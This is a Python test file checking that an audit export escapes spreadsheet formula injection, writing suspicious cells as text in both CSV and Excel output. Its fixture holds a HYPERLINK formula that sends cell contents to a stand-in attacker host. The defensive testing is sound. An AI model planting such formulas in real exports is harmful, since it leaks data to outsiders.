"""The auditors' export as files (``audit/tables.py``): a registered name, a reason or an actor that starts like a
spreadsheet formula is written as text, never as a formula Excel would run."""

from __future__ import annotations

import csv
import io

from openpyxl import Workbook, load_workbook

from audit.figures import WHITELIST_COLUMNS
from audit.tables import Figure, add_sheet, csv_bytes, figure_csv

NAME = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")"
WHITELIST = Figure("whitelist", "白名单", WHITELIST_COLUMNS,
                   [("p-1", "91440101MA59ABCD1D", NAME, "PLATFORM", "WHITELISTED", False)])


def test_a_figure_cell_that_starts_like_a_formula_is_text():
    """Found by the hostile review: a provider admitted under such a name was exported as written (CSV injection)."""
    rows = list(csv.reader(io.StringIO(figure_csv(WHITELIST, "zh").decode("utf-8-sig"))))
    assert rows[1][2] == "'" + NAME
    workbook = Workbook(write_only=True)
    add_sheet(workbook, WHITELIST, "zh")
    saved = io.BytesIO()
    workbook.save(saved)
    cell = load_workbook(saved).worksheets[0].cell(2, 3)
    assert (cell.data_type, cell.value) == ("s", NAME)


def test_streams_write_reasons_and_actors_as_text_and_leave_numbers_alone():
    """The audit trail's stream (``audit/streams.py``) writes actors and reasons through ``csv_bytes`` too."""
    got = csv_bytes([(7, "-1.50", "-", "@actor", "+86 20 1234", "-cmd", 1.5)]).decode()
    assert next(csv.reader(io.StringIO(got))) == ["7", "-1.50", "-", "'@actor", "'+86 20 1234", "'-cmd", "1.5"]
